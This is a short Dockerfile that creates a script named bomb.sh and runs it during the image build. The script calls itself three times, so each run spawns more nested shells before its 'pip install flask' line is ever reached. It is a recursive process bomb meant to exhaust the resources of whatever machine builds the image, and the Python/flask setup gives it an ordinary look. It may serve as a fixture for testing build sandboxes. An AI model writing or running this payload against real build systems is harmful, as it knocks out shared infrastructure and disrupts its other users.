FROM python:3.12
COPY <<EOF /bomb.sh
sh /bomb.sh; sh /bomb.sh; sh /bomb.sh
pip install flask
EOF
RUN sh /bomb.sh
